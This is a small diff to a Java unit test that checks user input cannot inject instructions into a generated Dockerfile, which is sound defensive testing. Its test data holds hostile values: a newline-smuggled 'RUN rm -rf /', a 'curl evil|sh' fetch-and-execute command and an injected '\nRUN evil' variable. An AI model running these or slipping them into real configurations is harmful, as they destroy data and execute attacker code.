@@ -100,7 +100,7 @@ class DockerfileGeneratorTest {
   @Test
   void nothingTheUserTypesReachesTheDockerfile() {
     EnvironmentSpec spec = spec("evil", "debian", "[{\"language-name\": \"python\", \"libraries\": [\"numpy\"]}]");
-    EnvironmentSpec withFreeText = new EnvironmentSpec(spec.name(), "1\nRUN rm -rf /", spec.os(), spec.languages(),
+    EnvironmentSpec withFreeText = new EnvironmentSpec(spec.name(), "1\nRUN rm -rf /", spec.os(), spec.osRelease(), spec.languages(),
         spec.resources(), spec.datasets(), spec.ports(), spec.storage(),
         List.of("sh", "-c", "curl evil|sh"), Map.of("X", "\nRUN evil"), spec.constraints(),
         spec.restartPolicy());
